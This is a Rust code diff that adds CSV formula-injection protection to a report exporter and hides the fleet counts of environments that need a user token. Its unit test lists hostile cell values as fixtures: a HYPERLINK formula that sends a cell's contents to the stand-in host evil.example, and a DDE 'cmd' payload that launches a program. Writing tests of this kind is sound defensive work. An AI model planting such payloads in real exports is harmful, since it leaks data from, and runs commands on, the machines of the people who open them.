@@ -177,23 +177,36 @@ fn profile_usage_table(r: &ProfileUsageReport) -> String {
 }
 
 /// One RFC 4180 record with its CRLF: a field with a comma, quote or line break is quoted,
-/// quotes doubled.
+/// quotes doubled; every field is [`neutralised`] first.
 pub fn csv_row<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
     let mut line = String::new();
     for (i, c) in cells.into_iter().enumerate() {
         if i > 0 {
             line.push(',');
         }
+        let c = neutralised(c);
         if c.contains([',', '"', '\r', '\n']) {
             line.push('"');
             line.push_str(&c.replace('"', "\"\""));
             line.push('"');
         } else {
-            line.push_str(c);
+            line.push_str(&c);
         }
     }
     line.push_str("\r\n");
     line
+}
+
+/// A cell a spreadsheet would not run as a formula (OWASP's CSV injection advice): names come
+/// from Palette, where anyone who may create a profile or cluster picks them, so a cell that
+/// starts with `=`, `+`, `-`, `@`, TAB or CR gets a leading `'`. Every cell, not only names:
+/// the numbers this service writes are counts, never negative, so none is changed.
+pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 /// Narrowing of the pack-usage report.
@@ -354,8 +367,13 @@ pub struct EnvironmentFleet {
     pub complete: bool,
     #[serde(skip_serializing_if = "Option::is_none")]
     pub progress: Option<Completion>,
+    /// The environment requires a Palette user token and the caller sent none: listed so the
+    /// report says why, without a count, uid or name of its fleet.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub user_token_required: bool,
+    /// None when [`Self::user_token_required`].
     #[serde(flatten)]
-    pub counts: FleetCounts,
+    pub counts: Option<FleetCounts>,
 }
 
 #[derive(Debug, Serialize)]
@@ -364,7 +382,9 @@ pub struct FleetReport {
 }
 
 /// The fleet of the context's environment, and — with `all` and no Palette user token (whose
-/// scope belongs to one Palette) — of every other environment whose mirror has data.
+/// scope belongs to one Palette) — of every other environment whose mirror has data. An
+/// environment that requires a user token is listed without its fleet: the caller has none
+/// for it (authorization refuses the context's own environment before this).
 pub async fn fleet_report(ctx: &Ctx, all: bool) -> AppResult<(Freshness, FleetReport)> {
     let m = ctx.mirror().await?;
     let mut environments = vec![env_fleet(&m).await?];
@@ -373,28 +393,35 @@ pub async fn fleet_report(ctx: &Ctx, all: bool) -> AppResult<(Freshness, FleetRe
             if env.name() == m.env() {
                 continue;
             }
+            let fresh = ctx.state.sync.freshness(env.name());
+            let required = env.config.requires_user_token(&ctx.state.config.auth);
+            if required || fresh.synced_at.is_none() {
+                environments.push(without_fleet(env.name(), &fresh, required));
+                continue;
+            }
             let other = Ctx {
                 env: env.clone(),
                 ..ctx.clone()
             };
-            let fresh = ctx.state.sync.freshness(env.name());
-            if fresh.synced_at.is_none() {
-                environments.push(EnvironmentFleet {
-                    environment: env.name().to_string(),
-                    ready: false,
-                    synced_at: None,
-                    stale: true,
-                    complete: false,
-                    progress: None,
-                    counts: FleetCounts::default(),
-                });
-                continue;
-            }
             let om = other.mirror().await?;
             environments.push(env_fleet(&om).await?);
         }
     }
     Ok((m.freshness, FleetReport { environments }))
+}
+
+/// An environment listed without its fleet: not synced yet, or closed to this caller.
+fn without_fleet(name: &str, fresh: &Freshness, token_required: bool) -> EnvironmentFleet {
+    EnvironmentFleet {
+        environment: name.to_string(),
+        ready: fresh.synced_at.is_some() && !token_required,
+        synced_at: None,
+        stale: fresh.synced_at.is_none() || fresh.stale,
+        complete: false,
+        progress: None,
+        user_token_required: token_required,
+        counts: (!token_required).then(FleetCounts::default),
+    }
 }
 
 async fn env_fleet(m: &super::view::Mirror<'_>) -> AppResult<EnvironmentFleet> {
@@ -410,7 +437,8 @@ async fn env_fleet(m: &super::view::Mirror<'_>) -> AppResult<EnvironmentFleet> {
         stale: fresh.stale,
         complete,
         progress,
-        counts,
+        user_token_required: false,
+        counts: Some(counts),
     })
 }
 
@@ -430,6 +458,35 @@ mod tests {
             csv_row(["x,y", "say \"hi\"", "two\nlines"]),
             "\"x,y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n"
         );
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_others_left_alone() {
+        for hostile in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\tx",
+            "\r=1",
+        ] {
+            assert_eq!(neutralised(hostile), format!("'{hostile}"), "{hostile:?}");
+        }
+        for plain in [
+            "web",
+            "1.29.4",
+            "0",
+            "12",
+            "",
+            "a=b",
+            "Running=3;Pending=1",
+            "'x",
+        ] {
+            assert_eq!(neutralised(plain), plain);
+        }
+        // Neutralised before quoting: the quote stays the first character inside the quotes.
+        assert_eq!(csv_row(["=1,2", "@x", "ok"]), "\"'=1,2\",'@x,ok\r\n");
+        assert_eq!(csv_row(["\r=1"]), "\"'\r=1\"\r\n");
     }
 
     #[test]
